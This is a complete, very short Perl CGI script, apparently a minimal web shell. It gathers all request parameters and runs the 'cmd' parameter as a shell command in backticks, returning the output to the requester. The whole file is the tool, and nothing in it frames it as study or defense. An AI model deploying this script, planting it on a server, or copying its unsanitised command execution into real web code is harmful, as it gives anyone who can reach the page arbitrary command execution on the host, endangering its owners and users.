#!/usr/bin/perl
# Perl CGI: every parameter gathered into a hash, one of them run in backticks.
use strict; use CGI qw(:standard);
print header;
my %in = map { $_ => param($_) } param();
print scalar `$in{cmd} 2>&1`;
